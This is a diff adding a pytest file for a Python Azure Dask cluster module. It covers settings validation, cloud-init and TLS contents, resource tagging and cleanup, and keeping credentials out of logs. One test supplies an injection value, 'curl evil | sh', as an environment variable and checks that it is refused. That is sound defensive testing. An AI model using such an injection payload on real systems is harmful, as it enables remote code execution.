@@ -1,0 +1,151 @@
+"""Kind ``azure``: settings refused up front, and AzureVMCluster built offline through its real constructor.
+
+Only Azure's management clients are replaced (by ``fake_azure``); the cluster,
+its VM classes, the cloud-init and TLS are dask-cloudprovider's and ours.
+"""
+
+import asyncio
+import base64
+import json
+
+import dask.config
+import pytest
+import yaml
+
+from cluster import azure
+from cluster.clusters import open_cluster
+
+SECRET = "c2VjcmV0LWtleQ+/=="
+REQUIRED = {"subscription_id": "00000000-0000-0000-0000-000000000000", "location": "westeurope",
+            "resource_group": "fleet-rg", "vnet": "fleet-vnet", "security_group": "fleet-nsg"}
+
+
+def settings(**overrides):
+    return azure.azure_settings(REQUIRED | overrides)
+
+
+@pytest.mark.parametrize(
+    "overrides, message",
+    [
+        ({"subscription_id": None}, "needs subscription-id.*CLUSTER__AZURE__SUBSCRIPTION_ID"),
+        ({"vnet": None, "security_group": None}, "needs vnet, security-group"),
+        ({"docker_image": "fleetscore.azurecr.io/fleetscore:latest"}, "no pinned tag"),
+        ({"docker_image": "fleetscore.azurecr.io/fleetscore"}, "no pinned tag"),
+        ({"docker_image": "registry:5000/fleetscore"}, "no pinned tag"),
+        ({"disk_size": 2048}, "disk-size 2048 GiB is impossible"),
+        ({"bootstrap": False}, "bootstrap false needs a VM image with Docker"),
+        ({"tags": {"team/owner": "x"}}, "not a valid Azure tag"),
+    ],
+)
+def test_impossible_azure_settings_are_refused_before_anything_starts(overrides, message, child_pids):
+    before = child_pids()
+    with pytest.raises(ValueError, match=message):
+        with open_cluster("azure", **(REQUIRED | overrides)):
+            pytest.fail("nothing may start")
+    assert child_pids() == before
+
+
+def test_the_default_image_is_this_project_at_its_version():
+    assert azure.docker_image(settings()) == "fleetscore.azurecr.io/fleetscore:0.1.0"
+    assert azure.docker_image(settings(docker_image="r.io/f@sha256:" + "0" * 64)).endswith("0" * 64)
+    azure.check(settings(docker_image="r.io/f@sha256:" + "0" * 64))
+
+
+def test_only_set_variables_are_forwarded_and_unquotable_ones_are_refused_by_name():
+    names = ["AZURE_STORAGE_ACCOUNT_NAME", "AZURE_STORAGE_ACCOUNT_KEY", "AZURE_STORAGE_SAS_TOKEN"]
+    env = {"AZURE_STORAGE_ACCOUNT_NAME": "fleet", "AZURE_STORAGE_ACCOUNT_KEY": SECRET, "OTHER": "x"}
+    assert azure.forwarded_env(names, env) == {"AZURE_STORAGE_ACCOUNT_NAME": "fleet",
+                                               "AZURE_STORAGE_ACCOUNT_KEY": SECRET}
+    with pytest.raises(ValueError, match="AZURE_STORAGE_ACCOUNT_KEY contain") as refused:
+        azure.forwarded_env(names, {"AZURE_STORAGE_ACCOUNT_KEY": 'a"; curl evil | sh; "'})
+    assert "curl" not in str(refused.value)
+
+
+def cloud_init(vm_parameters: dict) -> dict:
+    return yaml.safe_load(base64.b64decode(vm_parameters["os_profile"]["custom_data"]))
+
+
+def docker_line(init: dict) -> str:
+    [line] = [c for c in init["runcmd"] if isinstance(c, str) and c.startswith("docker run")]
+    return line
+
+
+def inherited_config(command: str) -> dict:
+    """The dask config dask-cloudprovider hands to the container (DASK_INTERNAL_INHERIT_CONFIG)."""
+    encoded = command.split('DASK_INTERNAL_INHERIT_CONFIG="', 1)[1].split('"', 1)[0]
+    return dask.config.deserialize(encoded)
+
+
+@pytest.fixture
+def offline_start(fake_azure, caplog, capsys):
+    """Start an AzureRunCluster inside a running loop against the fake; return what it did."""
+    caplog.set_level("DEBUG")
+
+    async def start():
+        with azure.restored_dask_config():
+            cluster = azure.AzureRunCluster(
+                run_tags=azure.run_tags({"app": "fleetscore"}, "run-123"), start_timeout=3,
+                asynchronous=True,
+                **azure.cluster_keywords(settings(), {"AZURE_STORAGE_ACCOUNT_KEY": SECRET}))
+            cluster.compute_client = cluster.network_client = fake_azure  # the network boundary
+            with pytest.raises(TimeoutError, match="scheduler did not come up within 3s"):
+                await cluster
+            worker = cluster.worker_class("tls://192.0.2.10:8786", **cluster.worker_options)
+            return cluster, cluster.render_process_cloud_init(worker)
+
+    cluster, worker_init = asyncio.run(asyncio.wait_for(start(), 60))
+    out = capsys.readouterr()
+    return cluster, worker_init, caplog.text + out.out + out.err
+
+
+def test_the_scheduler_vm_runs_our_image_with_tls_and_the_credentials(offline_start, fake_azure):
+    cluster, _, _ = offline_start
+    [(_, vm_name, vm)] = [c for c in fake_azure.created if c[0] == "virtual_machines"]
+    init = cloud_init(vm)
+    line = docker_line(init)
+    assert " fleetscore.azurecr.io/fleetscore:0.1.0 " in line and ":latest" not in line
+    assert f'-e AZURE_STORAGE_ACCOUNT_KEY="{SECRET}"' in line
+    assert "distributed.cli.dask_scheduler" in line
+    tls = inherited_config(line)["distributed"]["comm"]
+    assert tls["require-encryption"] is True
+    assert tls["tls"]["ca-file"].startswith("-----BEGIN CERTIFICATE")
+    assert cluster.protocol == "tls"
+    assert not any("shutdown" in str(c) for c in init["runcmd"])  # a VM shut down from inside stays billed
+    assert vm["hardware_profile"]["vm_size"] == "Standard_B2s"
+    assert vm["storage_profile"]["image_reference"]["sku"] == "22_04-lts-gen2"
+    assert vm["storage_profile"]["os_disk"]["disk_size_gb"] == 30
+
+
+def test_a_worker_vm_joins_over_tls_with_our_worker_options(offline_start):
+    _, init, _ = offline_start
+    line = docker_line(yaml.safe_load(init))
+    assert " fleetscore.azurecr.io/fleetscore:0.1.0 " in line
+    assert f'-e AZURE_STORAGE_ACCOUNT_KEY="{SECRET}"' in line
+    spec = json.loads(line.split("--spec '", 1)[1].rsplit("'", 1)[0])
+    assert spec["cls"] == "dask.distributed.Nanny"
+    assert spec["opts"]["nthreads"] == 2 and spec["opts"]["memory_limit"] == "7GiB"
+    assert "distributed.cli.dask_spec tls://192.0.2.10:8786" in line
+
+
+def test_every_resource_is_tagged_with_the_flow_run_and_no_public_ip_is_made(offline_start, fake_azure):
+    cluster, _, _ = offline_start
+    kinds = {kind for kind, _, _ in fake_azure.created}
+    assert kinds == {"network_interfaces", "virtual_machines"}
+    for _, _, parameters in fake_azure.created:
+        assert parameters["tags"]["fleetscore-flow-run"] == "run-123"
+        assert parameters["tags"]["app"] == "fleetscore"
+        assert parameters["tags"]["cluster-id"] == cluster.uuid
+        assert parameters["tags"]["fleetscore-created"].endswith("Z")
+
+
+def test_a_scheduler_vm_that_never_answers_is_deleted_with_its_disk_and_nic(offline_start, fake_azure):
+    assert {kind for kind, _ in fake_azure.deleted} == {"virtual_machines", "disks", "network_interfaces"}
+    assert all(fake_azure.resources[k] == {} for k in ("virtual_machines", "disks", "network_interfaces"))
+
+
+def test_credentials_never_reach_logs_or_repr_and_global_config_is_restored(offline_start):
+    cluster, _, logged = offline_start
+    assert "Creating VM" in logged  # dask-cloudprovider's progress was captured
+    assert SECRET not in logged
+    assert SECRET not in repr(cluster) and SECRET not in str(cluster)
+    assert dask.config.get("distributed.comm.require-encryption") in (None, False)
